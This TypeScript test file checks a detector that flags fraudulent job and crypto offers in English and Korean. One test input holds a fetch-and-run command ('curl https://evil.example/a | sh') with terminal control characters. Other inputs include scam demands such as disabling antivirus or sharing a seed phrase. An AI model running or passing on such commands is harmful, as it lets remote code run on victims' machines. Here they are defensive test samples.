import assert from 'node:assert/strict';
import test, { suite } from 'node:test';
import fc from 'fast-check';
import { judgeDomain } from '../domain/index.ts';
import { FALSE_OFFERS } from './fixture/false-offers.ts';
import { HONEST } from './fixture/honest-offers.ts';
import { MORE_FALSE_OFFERS } from './fixture/more-false-offers.ts';
import { MORE_HONEST } from './fixture/more-honest-offers.ts';
import { checkOffer, type LinkJudgement, type OfferCheck, offerInKorean, readOffer } from './index.ts';
import { OFFER_INDICATORS } from './indicators.ts';

const clear = (link: string): LinkJudgement => ({ domain: link, verdict: 'clear', reasons: [] });

async function check(text: string): Promise<OfferCheck> {
  const offer = await readOffer(new TextEncoder().encode(text), text);
  assert.ok(!('fault' in offer), JSON.stringify(offer));
  return checkOffer(offer, { judgeLink: clear });
}

const rulesOf = ({ signals }: OfferCheck): string[] => signals.map(({ rule }) => rule);

suite('honest offers give no strong sign', () => {
  for (const [name, text] of Object.entries(HONEST)) {
    test(name, async () => {
      const { signals, strongest } = await check(text);
      assert.notEqual(strongest, 'strong', JSON.stringify(signals));
      assert.ok(strongest === 'none' || strongest === 'supports only', JSON.stringify(signals));
    });
  }
});

suite('further honest messages give no strong sign', () => {
  for (const text of MORE_HONEST) {
    test(text.slice(0, 80), async () => {
      const { signals, strongest } = await check(text);
      assert.ok(strongest === 'none' || strongest === 'supports only', JSON.stringify(signals));
    });
  }
});

suite('further false offers show a sign', () => {
  for (const text of MORE_FALSE_OFFERS) {
    test(text.slice(0, 80), async () => assert.notDeepEqual((await check(text)).signals, []));
  }
});

test('honest offers give no strong sign with the product’s own judgement of their links either', async () => {
  for (const text of [...Object.values(HONEST), ...MORE_HONEST]) {
    const offer = await readOffer(new TextEncoder().encode(text), text);
    assert.ok(!('fault' in offer));
    const { strongest, signals } = checkOffer(offer, { judgeLink: (link) => judgeDomain(link) });
    assert.notEqual(strongest, 'strong', JSON.stringify(signals));
  }
});

suite('false offers show their signs', () => {
  for (const [name, [text, ...rules]] of Object.entries(FALSE_OFFERS)) {
    test(name, async () => {
      const found = rulesOf(await check(text));
      for (const rule of rules) assert.ok(found.includes(rule), `${rule} is missing in ${found}`);
    });
  }
});

suite('a denial is no demand, a condition is no denial', () => {
  const denials = [
    'You do not need to disable your antivirus.',
    'We will never ask you to pay a fee, connect your wallet or send your private key.',
    'Please never share your seed phrase with anybody.',
    'There is no need to install AnyDesk.',
    'The test can be done without connecting your wallet.',
    '백신을 끄실 필요가 없습니다.',
    '저희는 수수료 입금을 요구하지 않습니다.',
    '지갑을 연결하지 마세요.',
  ];
  for (const text of denials) test(text, async () => assert.deepEqual((await check(text)).signals, []));

  const demands = [
    "If it doesn't start please disable your antivirus.",
    'LinkedIn is not secure so let us continue on Telegram.',
    'Your camera is not working because the driver is old: paste the command into the terminal.',
    '설치되지 않으면 백신을 꺼 주세요.',
  ];
  for (const text of demands) test(text, async () => assert.notDeepEqual((await check(text)).signals, []));
});

suite('the answer', () => {
  test('every sign has a publisher, a weight, a question and a number of the list', () => {
    for (const indicator of Object.values(OFFER_INDICATORS)) {
      assert.match(indicator.source, /[A-Z]/);
      assert.match(indicator.question, /[.?]$/);
      assert.ok(indicator.number >= 1 && indicator.number <= 38);
    }
  });

  test('in Korean it has the same signs and as much advice, each in Korean', async () => {
    for (const [text] of Object.values(FALSE_OFFERS)) {
      const english = await check(text);
      const korean = offerInKorean(english);
      assert.deepEqual(rulesOf(korean), rulesOf(english));
      assert.equal(korean.advice.length, english.advice.length);
      for (const words of [...korean.advice, ...korean.signals.flatMap((sign) => [sign.text, sign.question])]) {
        assert.match(words, /[가-힣]/);
      }
    }
  });

  test('the same offer gives the same answer, whatever it holds', async () => {
    await fc.assert(
      fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 400 }), async (text) => {
        const offer = await readOffer(new TextEncoder().encode(text), text);
        if (!('fault' in offer)) {
          assert.deepEqual(checkOffer(offer, { judgeLink: clear }), checkOffer(offer, { judgeLink: clear }));
        }
      }),
    );
  });

  test('what it quotes can be neither followed nor obeyed by a terminal', async () => {
    const { signals } = await check(
      'Please paste this into the terminal: curl https://evil.example/a | sh \u001b[31m\u202e',
    );
    assert.ok(signals.length > 0);
    for (const { words = '' } of signals) assert.doesNotMatch(words, /https?:\/\/|[\p{Cc}\p{Cf}]/u);
  });

  test('a long text without an end of sentence is judged within seconds', async () => {
    for (const unit of [
      'run ',
      'a',
      'please open the ',
      'do not ',
      '텔레그램 ',
      'attackers ask ',
      'if they ask you to ',
      '실행하라고 요구하면 ',
      'please is are ',
      'https://a.b ',
      '<a href="x">',
      '[x](',
    ]) {
      const start = performance.now();
      await check(unit.repeat(Math.floor(300_000 / unit.length)));
      assert.ok(performance.now() - start < 8_000, unit);
    }
  });
});
